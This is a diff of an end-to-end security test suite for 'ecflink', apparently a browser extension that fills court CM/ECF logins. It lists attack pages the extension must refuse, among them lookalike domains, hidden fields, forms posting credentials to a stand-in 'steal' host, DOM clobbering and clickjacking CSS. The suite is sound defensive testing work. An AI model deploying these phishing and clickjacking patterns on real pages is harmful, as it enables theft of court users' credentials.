@@ -26,25 +26,40 @@ pytestmark = [pytest.mark.e2e, pytest.mark.security]
 
 LOGIN, SECRET = "jdoe", "Ecf-Txwd-S3cret!"
 COURT = "https://ecf.txwd.uscourts.gov"
-MENU = ('<div id="topmenu" class="yuimenubar"><div class="bd"><ul class="first-of-type">'
-        '<li class="yuimenubaritem"><a class="yuimenubaritemlabel" href="/cgi-bin/DisplayMenu.pl?Utilities">Utilities</a></li>'
-        '<li class="yuimenubaritem"><a class="yuimenubaritemlabel" href="/cgi-bin/login.pl?logout">Log Out</a></li>'
-        "</ul></div></div>")
+MENU = (
+    '<div id="topmenu" class="yuimenubar"><div class="bd"><ul class="first-of-type">'
+    '<li class="yuimenubaritem"><a class="yuimenubaritemlabel" href="/cgi-bin/DisplayMenu.pl?Utilities">Utilities</a></li>'
+    '<li class="yuimenubaritem"><a class="yuimenubaritemlabel" href="/cgi-bin/login.pl?logout">Log Out</a></li>'
+    "</ul></div></div>"
+)
 
 
-def link_form(action="/cgi-bin/LinkAcct.pl", login_attrs="", password_attrs="", password_type="password",
-              wrapper_style="", submit_attrs="", form_attrs="", method="post", inside="") -> str:
-    return (f'<form method="{method}" action="{action}" {form_attrs}><div style="{wrapper_style}">'
-            '<h3>Link a CM/ECF account to my PACER account</h3>'
-            f'<p><label>CM/ECF login <input type="text" name="ecf_login" {login_attrs}></label></p>'
-            f'<p><label>CM/ECF password <input type="{password_type}" name="ecf_password" {password_attrs}></label></p>'
-            f'{inside}<p><input type="submit" value="Submit" {submit_attrs}></p></div></form>')
+def link_form(
+    action="/cgi-bin/LinkAcct.pl",
+    login_attrs="",
+    password_attrs="",
+    password_type="password",
+    wrapper_style="",
+    submit_attrs="",
+    form_attrs="",
+    method="post",
+    inside="",
+) -> str:
+    return (
+        f'<form method="{method}" action="{action}" {form_attrs}><div style="{wrapper_style}">'
+        "<h3>Link a CM/ECF account to my PACER account</h3>"
+        f'<p><label>CM/ECF login <input type="text" name="ecf_login" {login_attrs}></label></p>'
+        f'<p><label>CM/ECF password <input type="{password_type}" name="ecf_password" {password_attrs}></label></p>'
+        f'{inside}<p><input type="submit" value="Submit" {submit_attrs}></p></div></form>'
+    )
 
 
 def page(content: str, script: str = "") -> str:
-    return (f"<!DOCTYPE html><html><head><title>CM/ECF</title></head><body>{MENU}"
-            f'<div id="cmecfMainContent">{content}</div>'
-            f"{f'<script>{script}</script>' if script else ''}</body></html>")
+    return (
+        f"<!DOCTYPE html><html><head><title>CM/ECF</title></head><body>{MENU}"
+        f'<div id="cmecfMainContent">{content}</div>'
+        f"{f'<script>{script}</script>' if script else ''}</body></html>"
+    )
 
 
 # Page scripts an attacker could run in a court page.
@@ -75,15 +90,17 @@ document.addEventListener("click", (event) => {{
 }}, true);"""
 # Click guards (audit F4, F12; its attack pages 6-8): a page cannot cover, move, scale, mask or fade
 # ecflink's panel and still have a click on it count.
-AFTER_COVER = ("html::after{content:'Continue';position:fixed;right:0;bottom:0;width:420px;height:260px;"
-               "background:#fff;z-index:2147483647;pointer-events:none}")
+AFTER_COVER = (
+    "html::after{content:'Continue';position:fixed;right:0;bottom:0;width:420px;height:260px;"
+    "background:#fff;z-index:2147483647;pointer-events:none}"
+)
 ROOT_STYLES = {
     # Mild enough to leave the link form's fields plainly visible (else no fill is offered at all).
     "root translated": "html{translate:4px -30px}",
     "root scaled": "html{scale:.6}",
     "root zoomed": "html{zoom:.6}",
     "root masked": "html{mask-image:linear-gradient(transparent,transparent);"
-                   "-webkit-mask-image:linear-gradient(transparent,transparent)}",
+    "-webkit-mask-image:linear-gradient(transparent,transparent)}",
     "root contained": "html{contain:paint;height:200px}",
 }
 # Rules on ecflink's host element: the inline pins outweigh them, so the panel stays where and as
@@ -93,7 +110,7 @@ HOST_STYLES = {
     "host scaled": "[data-ecflink]{scale:.2 !important}",
     "host zoomed": "[data-ecflink]{zoom:.2}",
     "host masked": "[data-ecflink]{mask-image:linear-gradient(transparent,transparent);"
-                   "-webkit-mask-image:linear-gradient(transparent,transparent)}",
+    "-webkit-mask-image:linear-gradient(transparent,transparent)}",
     "text made transparent": "[data-ecflink]{-webkit-text-fill-color:transparent;color:transparent}",
     "root font shrunk": "html{font-size:1px}",
 }
@@ -146,7 +163,7 @@ class Attack:
     # then refuses the page (it changed between the click and the fill); None: either may happen
 
 
-FRAME_PAGE = page("<p>Welcome.</p>") .replace("</div></body>", "{frame}</div></body>")
+FRAME_PAGE = page("<p>Welcome.</p>").replace("</div></body>", "{frame}</div></body>")
 ATTACKS = [
     Attack("lookalike ecf-txwd", "https://ecf-txwd.uscourts.gov/cgi-bin/LinkAcct.pl", page(link_form())),
     Attack("lookalike xecf.txwd", "https://xecf.txwd.uscourts.gov/cgi-bin/LinkAcct.pl", page(link_form())),
@@ -155,105 +172,260 @@ ATTACKS = [
     Attack("another site", "https://www.example-firm.test/link", page(link_form())),
     Attack("appellate court host", "https://ecf.ca5.uscourts.gov/link", page(link_form())),
     Attack("plain http", "http://ecf.txwd.uscourts.gov/cgi-bin/HttpLink.pl", page(link_form())),
-    Attack("cross-origin iframe", f"{COURT}/cgi-bin/showpage.pl?frame1",
-           FRAME_PAGE.format(frame='<iframe src="https://www.example-firm.test/link" width="600" height="300"></iframe>')),
-    Attack("lookalike iframe", f"{COURT}/cgi-bin/showpage.pl?frame2",
-           FRAME_PAGE.format(frame='<iframe src="https://ecf-txwd.uscourts.gov/cgi-bin/LinkAcct.pl" width="600" height="300"></iframe>')),
-    Attack("same-origin iframe", f"{COURT}/cgi-bin/showpage.pl?frame3",
-           FRAME_PAGE.format(frame=f'<iframe src="{COURT}/cgi-bin/LinkAcct.pl?framed" width="600" height="300"></iframe>')),
-    Attack("sandboxed iframe", f"{COURT}/cgi-bin/showpage.pl?frame4",
-           FRAME_PAGE.format(frame=f'<iframe sandbox="allow-scripts allow-forms" srcdoc=\'{page(link_form())}\' width="600" height="300"></iframe>')),
-    Attack("sandboxed page (opaque origin)", f"{COURT}/cgi-bin/LinkAcct.pl?sandboxed", page(link_form()),
-           headers=[("Content-Security-Policy", "sandbox allow-scripts allow-forms")]),
-    Attack("hidden login field", f"{COURT}/cgi-bin/LinkAcct.pl?a1", page(link_form(login_attrs='style="display:none"'))),
-    Attack("invisible password field", f"{COURT}/cgi-bin/LinkAcct.pl?a2",
-           page(link_form(password_attrs='style="visibility:hidden"'))),
-    Attack("zero-size password field", f"{COURT}/cgi-bin/LinkAcct.pl?a3",
-           page(link_form(password_attrs='style="width:0;height:0;padding:0;border:0"'))),
+    Attack(
+        "cross-origin iframe",
+        f"{COURT}/cgi-bin/showpage.pl?frame1",
+        FRAME_PAGE.format(frame='<iframe src="https://www.example-firm.test/link" width="600" height="300"></iframe>'),
+    ),
+    Attack(
+        "lookalike iframe",
+        f"{COURT}/cgi-bin/showpage.pl?frame2",
+        FRAME_PAGE.format(
+            frame='<iframe src="https://ecf-txwd.uscourts.gov/cgi-bin/LinkAcct.pl" width="600" height="300"></iframe>'
+        ),
+    ),
+    Attack(
+        "same-origin iframe",
+        f"{COURT}/cgi-bin/showpage.pl?frame3",
+        FRAME_PAGE.format(frame=f'<iframe src="{COURT}/cgi-bin/LinkAcct.pl?framed" width="600" height="300"></iframe>'),
+    ),
+    Attack(
+        "sandboxed iframe",
+        f"{COURT}/cgi-bin/showpage.pl?frame4",
+        FRAME_PAGE.format(
+            frame=f'<iframe sandbox="allow-scripts allow-forms" srcdoc=\'{page(link_form())}\' width="600" height="300"></iframe>'
+        ),
+    ),
+    Attack(
+        "sandboxed page (opaque origin)",
+        f"{COURT}/cgi-bin/LinkAcct.pl?sandboxed",
+        page(link_form()),
+        headers=[("Content-Security-Policy", "sandbox allow-scripts allow-forms")],
+    ),
+    Attack(
+        "hidden login field", f"{COURT}/cgi-bin/LinkAcct.pl?a1", page(link_form(login_attrs='style="display:none"'))
+    ),
+    Attack(
+        "invisible password field",
+        f"{COURT}/cgi-bin/LinkAcct.pl?a2",
+        page(link_form(password_attrs='style="visibility:hidden"')),
+    ),
+    Attack(
+        "zero-size password field",
+        f"{COURT}/cgi-bin/LinkAcct.pl?a3",
+        page(link_form(password_attrs='style="width:0;height:0;padding:0;border:0"')),
+    ),
     Attack("transparent fields", f"{COURT}/cgi-bin/LinkAcct.pl?a4", page(link_form(wrapper_style="opacity:0"))),
-    Attack("off-screen fields", f"{COURT}/cgi-bin/LinkAcct.pl?a5",
-           page(link_form(wrapper_style="position:absolute;left:-10000px;top:-10000px")), True),
-    Attack("disabled password field", f"{COURT}/cgi-bin/LinkAcct.pl?a6", page(link_form(password_attrs="disabled")), True),
+    Attack(
+        "off-screen fields",
+        f"{COURT}/cgi-bin/LinkAcct.pl?a5",
+        page(link_form(wrapper_style="position:absolute;left:-10000px;top:-10000px")),
+        True,
+    ),
+    Attack(
+        "disabled password field", f"{COURT}/cgi-bin/LinkAcct.pl?a6", page(link_form(password_attrs="disabled")), True
+    ),
     Attack("read-only login field", f"{COURT}/cgi-bin/LinkAcct.pl?a7", page(link_form(login_attrs="readonly")), True),
     Attack("password shown as text", f"{COURT}/cgi-bin/LinkAcct.pl?a8", page(link_form(password_type="text"))),
-    Attack("form posts to another site", f"{COURT}/cgi-bin/LinkAcct.pl?a9",
-           page(link_form(action="https://www.example-firm.test/steal")), True),
-    Attack("form posts over http", f"{COURT}/cgi-bin/LinkAcct.pl?a10",
-           page(link_form(action="http://ecf.txwd.uscourts.gov/cgi-bin/LinkAcct.pl")), True),
-    Attack("button posts to another site", f"{COURT}/cgi-bin/LinkAcct.pl?a11",
-           page(link_form(submit_attrs='formaction="https://www.example-firm.test/steal"')), True),
+    Attack(
+        "form posts to another site",
+        f"{COURT}/cgi-bin/LinkAcct.pl?a9",
+        page(link_form(action="https://www.example-firm.test/steal")),
+        True,
+    ),
+    Attack(
+        "form posts over http",
+        f"{COURT}/cgi-bin/LinkAcct.pl?a10",
+        page(link_form(action="http://ecf.txwd.uscourts.gov/cgi-bin/LinkAcct.pl")),
+        True,
+    ),
+    Attack(
+        "button posts to another site",
+        f"{COURT}/cgi-bin/LinkAcct.pl?a11",
+        page(link_form(submit_attrs='formaction="https://www.example-firm.test/steal"')),
+        True,
+    ),
     Attack("fill forged by page script", f"{COURT}/cgi-bin/LinkAcct.pl?a12", page(link_form(), FORGE), True, "never"),
     Attack("no click at all", f"{COURT}/cgi-bin/LinkAcct.pl?a13", page(link_form()), True, "never"),
     Attack("overlay covered by a decoy", f"{COURT}/cgi-bin/LinkAcct.pl?a14", page(link_form(), COVER), True),
     Attack("page made transparent", f"{COURT}/cgi-bin/LinkAcct.pl?a15", page(link_form(), FADE), True),
     Attack("click before the button is active", f"{COURT}/cgi-bin/LinkAcct.pl?a16", page(link_form()), True, "at-once"),
     # Judged as the browser submits (security audit F1, F2, F10, F11; its attack pages 1-5, 9, 10).
-    Attack("submit button outside the form", f"{COURT}/cgi-bin/LinkAcct.pl?f1",
-           page(link_form(form_attrs='id="lf"') + f'<button form="lf" formaction="{STEAL}">Submit</button>'), True,
-           refusal="a button in the form would send your login to another site."),
-    Attack("off-screen default button before the form", f"{COURT}/cgi-bin/LinkAcct.pl?f2",
-           page(f'<input type="submit" form="lf" formaction="{STEAL}" style="position:absolute;left:-9999px">'
-                + link_form(form_attrs='id="lf"')), True,
-           refusal="a button in the form would send your login to another site."),
-    Attack("fields owned by another form", f"{COURT}/cgi-bin/LinkAcct.pl?f3",
-           page(f'<form id="x" method="post" action="{STEAL}"></form>' + link_form(
-               login_attrs='form="x"', password_attrs='form="x"', submit_attrs='form="x"')), True,
-           refusal="the form would send your login to another site."),
-    Attack("action clobbered by a field named action", f"{COURT}/cgi-bin/LinkAcct.pl?f4",
-           page(link_form(action=STEAL, inside='<input type="hidden" name="action">')), True,
-           refusal="the form would send your login to another site."),
-    Attack("form.elements clobbered", f"{COURT}/cgi-bin/LinkAcct.pl?f5",
-           page(link_form(action=STEAL, inside='<input type="hidden" name="elements"><input type="hidden" '
-                                               'name="querySelectorAll"><input type="hidden" name="method">')), True,
-           refusal="the form would send your login to another site."),
-    Attack("GET form", f"{COURT}/cgi-bin/LinkAcct.pl?f6", page(link_form(method="get")), True,
-           refusal="the form would put your login in the page address."),
-    Attack("submit button with formmethod=get", f"{COURT}/cgi-bin/LinkAcct.pl?f7",
-           page(link_form(submit_attrs='formmethod="get"')), True,
-           refusal="a button in the form would put your login in the page address."),
-    Attack("submit button with a formtarget", f"{COURT}/cgi-bin/LinkAcct.pl?f8",
-           page(link_form(submit_attrs='formtarget="stolen"')), True,
-           refusal="a button in the form would send your login to another window."),
-    Attack("javascript: action", f"{COURT}/cgi-bin/LinkAcct.pl?f9", page(link_form(action="javascript:void(0)")), True,
-           refusal="the form would send your login to another site."),
-    Attack("a plain button element posting elsewhere", f"{COURT}/cgi-bin/LinkAcct.pl?f10",
-           page(link_form(inside=f'<button formaction="{STEAL}">Check</button>')), True,
-           refusal="a button in the form would send your login to another site."),
-    Attack("retargeted between click and fill", f"{COURT}/cgi-bin/LinkAcct.pl?f11", page(link_form(), RETARGET), True,
-           refusal="the form would send your login to another site.", released=None),
-    Attack("fields swapped during fill", f"{COURT}/cgi-bin/LinkAcct.pl?f12", page(link_form(), SWAP), True,
-           refusal="ecflink did not fill this form", released=True),
-    Attack("root ::after drawn over the panel", f"{COURT}/cgi-bin/LinkAcct.pl?c1",
-           page(f"<style>{AFTER_COVER}</style>" + link_form()), True,
-           refusal="something was placed over ecflink's panel."),
+    Attack(
+        "submit button outside the form",
+        f"{COURT}/cgi-bin/LinkAcct.pl?f1",
+        page(link_form(form_attrs='id="lf"') + f'<button form="lf" formaction="{STEAL}">Submit</button>'),
+        True,
+        refusal="a button in the form would send your login to another site.",
+    ),
+    Attack(
+        "off-screen default button before the form",
+        f"{COURT}/cgi-bin/LinkAcct.pl?f2",
+        page(
+            f'<input type="submit" form="lf" formaction="{STEAL}" style="position:absolute;left:-9999px">'
+            + link_form(form_attrs='id="lf"')
+        ),
+        True,
+        refusal="a button in the form would send your login to another site.",
+    ),
+    Attack(
+        "fields owned by another form",
+        f"{COURT}/cgi-bin/LinkAcct.pl?f3",
+        page(
+            f'<form id="x" method="post" action="{STEAL}"></form>'
+            + link_form(login_attrs='form="x"', password_attrs='form="x"', submit_attrs='form="x"')
+        ),
+        True,
+        refusal="the form would send your login to another site.",
+    ),
+    Attack(
+        "action clobbered by a field named action",
+        f"{COURT}/cgi-bin/LinkAcct.pl?f4",
+        page(link_form(action=STEAL, inside='<input type="hidden" name="action">')),
+        True,
+        refusal="the form would send your login to another site.",
+    ),
+    Attack(
+        "form.elements clobbered",
+        f"{COURT}/cgi-bin/LinkAcct.pl?f5",
+        page(
+            link_form(
+                action=STEAL,
+                inside='<input type="hidden" name="elements"><input type="hidden" '
+                'name="querySelectorAll"><input type="hidden" name="method">',
+            )
+        ),
+        True,
+        refusal="the form would send your login to another site.",
+    ),
+    Attack(
+        "GET form",
+        f"{COURT}/cgi-bin/LinkAcct.pl?f6",
+        page(link_form(method="get")),
+        True,
+        refusal="the form would put your login in the page address.",
+    ),
+    Attack(
+        "submit button with formmethod=get",
+        f"{COURT}/cgi-bin/LinkAcct.pl?f7",
+        page(link_form(submit_attrs='formmethod="get"')),
+        True,
+        refusal="a button in the form would put your login in the page address.",
+    ),
+    Attack(
+        "submit button with a formtarget",
+        f"{COURT}/cgi-bin/LinkAcct.pl?f8",
+        page(link_form(submit_attrs='formtarget="stolen"')),
+        True,
+        refusal="a button in the form would send your login to another window.",
+    ),
+    Attack(
+        "javascript: action",
+        f"{COURT}/cgi-bin/LinkAcct.pl?f9",
+        page(link_form(action="javascript:void(0)")),
+        True,
+        refusal="the form would send your login to another site.",
+    ),
+    Attack(
+        "a plain button element posting elsewhere",
+        f"{COURT}/cgi-bin/LinkAcct.pl?f10",
+        page(link_form(inside=f'<button formaction="{STEAL}">Check</button>')),
+        True,
+        refusal="a button in the form would send your login to another site.",
+    ),
+    Attack(
+        "retargeted between click and fill",
+        f"{COURT}/cgi-bin/LinkAcct.pl?f11",
+        page(link_form(), RETARGET),
+        True,
+        refusal="the form would send your login to another site.",
+        released=None,
+    ),
+    Attack(
+        "fields swapped during fill",
+        f"{COURT}/cgi-bin/LinkAcct.pl?f12",
+        page(link_form(), SWAP),
+        True,
+        refusal="ecflink did not fill this form",
+        released=True,
+    ),
+    Attack(
+        "root ::after drawn over the panel",
+        f"{COURT}/cgi-bin/LinkAcct.pl?c1",
+        page(f"<style>{AFTER_COVER}</style>" + link_form()),
+        True,
+        refusal="something was placed over ecflink's panel.",
+    ),
     # (A masked-out panel may not get the click at all: Chromium does not hit-test masked-out content.)
-    *[Attack(name, f"{COURT}/cgi-bin/LinkAcct.pl?c2-{index}", page(f"<style>{css}</style>" + link_form()), True,
-             click="pointer", refusal="" if "mask" in css else "the page moved or hid ecflink's panel.")
-      for index, (name, css) in enumerate(ROOT_STYLES.items())],
-    Attack("host's pins rewritten by script", f"{COURT}/cgi-bin/LinkAcct.pl?c3", page(link_form(), UNPIN), True,
-           click="pointer", refusal="the page moved or hid ecflink's panel."),
+    *[
+        Attack(
+            name,
+            f"{COURT}/cgi-bin/LinkAcct.pl?c2-{index}",
+            page(f"<style>{css}</style>" + link_form()),
+            True,
+            click="pointer",
+            refusal="" if "mask" in css else "the page moved or hid ecflink's panel.",
+        )
+        for index, (name, css) in enumerate(ROOT_STYLES.items())
+    ],
+    Attack(
+        "host's pins rewritten by script",
+        f"{COURT}/cgi-bin/LinkAcct.pl?c3",
+        page(link_form(), UNPIN),
+        True,
+        click="pointer",
+        refusal="the page moved or hid ecflink's panel.",
+    ),
     # (The form lower on the page, so that the shift leaves its fields in view and fillable.)
-    Attack("double-click jacking", f"{COURT}/cgi-bin/LinkAcct.pl?c4",
-           page('<div style="height:320px"></div>' + link_form(), DOUBLE), True, click="double",
-           refusal="the page moved or hid ecflink's panel."),
-    Attack("Enter on the button, focused without ecflink's shortcut", f"{COURT}/cgi-bin/LinkAcct.pl?c5",
-           page(link_form()), True, click="keyboard",
-           refusal="from the keyboard, ecflink takes this button only after its own shortcut"),
+    Attack(
+        "double-click jacking",
+        f"{COURT}/cgi-bin/LinkAcct.pl?c4",
+        page('<div style="height:320px"></div>' + link_form(), DOUBLE),
+        True,
+        click="double",
+        refusal="the page moved or hid ecflink's panel.",
+    ),
+    Attack(
+        "Enter on the button, focused without ecflink's shortcut",
+        f"{COURT}/cgi-bin/LinkAcct.pl?c5",
+        page(link_form()),
+        True,
+        click="keyboard",
+        refusal="from the keyboard, ecflink takes this button only after its own shortcut",
+    ),
 ]
 CONTROL = Attack("control: the genuine form", f"{COURT}/cgi-bin/LinkAcct.pl?control", page(link_form()), True)
 # Fields and Submit that stand outside their form but belong to it (form=, as a table layout may
 # need): the browser posts them with the form, to the court, so ecflink fills.
 OWNED_CONTROL = Attack(
-    "control: fields tied to the form by form=", f"{COURT}/cgi-bin/LinkAcct.pl?control2",
-    page('<form id="lf" method="post" action="/cgi-bin/LinkAcct.pl"></form>'
-         '<h3>Link a CM/ECF account to my PACER account</h3><table>'
-         '<tr><td><label for="l">CM/ECF login</label></td><td><input id="l" type="text" name="ecf_login" form="lf"></td></tr>'
-         '<tr><td><label for="p">CM/ECF password</label></td><td><input id="p" type="password" name="ecf_password" '
-         'form="lf"></td></tr></table><p><input type="submit" value="Submit" form="lf"></p>'), True)
-SHORTCUT_CONTROL = Attack("control: Enter after ecflink's own shortcut", f"{COURT}/cgi-bin/LinkAcct.pl?control3",
-                          page(link_form()), True, click="shortcut")
-NEUTRAL = [Attack(f"control: {name}", f"{COURT}/cgi-bin/LinkAcct.pl?n{index}", page(f"<style>{css}</style>" + link_form()),
-                  True, click="pointer") for index, (name, css) in enumerate(HOST_STYLES.items())]
+    "control: fields tied to the form by form=",
+    f"{COURT}/cgi-bin/LinkAcct.pl?control2",
+    page(
+        '<form id="lf" method="post" action="/cgi-bin/LinkAcct.pl"></form>'
+        "<h3>Link a CM/ECF account to my PACER account</h3><table>"
+        '<tr><td><label for="l">CM/ECF login</label></td><td><input id="l" type="text" name="ecf_login" form="lf"></td></tr>'
+        '<tr><td><label for="p">CM/ECF password</label></td><td><input id="p" type="password" name="ecf_password" '
+        'form="lf"></td></tr></table><p><input type="submit" value="Submit" form="lf"></p>'
+    ),
+    True,
+)
+SHORTCUT_CONTROL = Attack(
+    "control: Enter after ecflink's own shortcut",
+    f"{COURT}/cgi-bin/LinkAcct.pl?control3",
+    page(link_form()),
+    True,
+    click="shortcut",
+)
+NEUTRAL = [
+    Attack(
+        f"control: {name}",
+        f"{COURT}/cgi-bin/LinkAcct.pl?n{index}",
+        page(f"<style>{css}</style>" + link_form()),
+        True,
+        click="pointer",
+    )
+    for index, (name, css) in enumerate(HOST_STYLES.items())
+]
 CONTROLS = [CONTROL, OWNED_CONTROL, SHORTCUT_CONTROL, *NEUTRAL]
 SAME_ORIGIN_FORM = f"{COURT}/cgi-bin/LinkAcct.pl?framed"
 
@@ -349,7 +521,9 @@ def shortcut(session) -> None:
             "api.tabs.query({}).then((tabs) => {"
             "  const tab = tabs.find((t) => t.url === address);"
             "  return tab ? api.tabs.sendMessage(tab.id, {type: 'focus_panel'}, {frameId: 0}) : 'no tab at ' + address;"
-            "}).then(done, (e) => done(String(e)));", address)
+            "}).then(done, (e) => done(String(e)));",
+            address,
+        )
         assert focused == {"focused": True}, focused
     finally:
         driver.close()
@@ -402,8 +576,12 @@ def test_control_the_genuine_form_is_filled(armed_browser, control):
     assert "Filled." in overlay_note(armed_browser.driver)
     # The panel was where and as ecflink draws it: 16 px from the bottom right, full size.
     drawn = armed_browser.driver.execute_script(
-        "return [innerWidth - document.documentElement.clientWidth, innerWidth, innerHeight]")
-    panel = armed_browser.driver.find_element(By.CSS_SELECTOR, "[data-ecflink=overlay]").shadow_root.find_element(
-        By.CSS_SELECTOR, ".panel").rect
+        "return [innerWidth - document.documentElement.clientWidth, innerWidth, innerHeight]"
+    )
+    panel = (
+        armed_browser.driver.find_element(By.CSS_SELECTOR, "[data-ecflink=overlay]")
+        .shadow_root.find_element(By.CSS_SELECTOR, ".panel")
+        .rect
+    )
     assert panel["width"] >= 200 and panel["height"] >= 60
     assert drawn[1] - drawn[0] - 17.5 <= panel["x"] + panel["width"] <= drawn[1] - 14.5
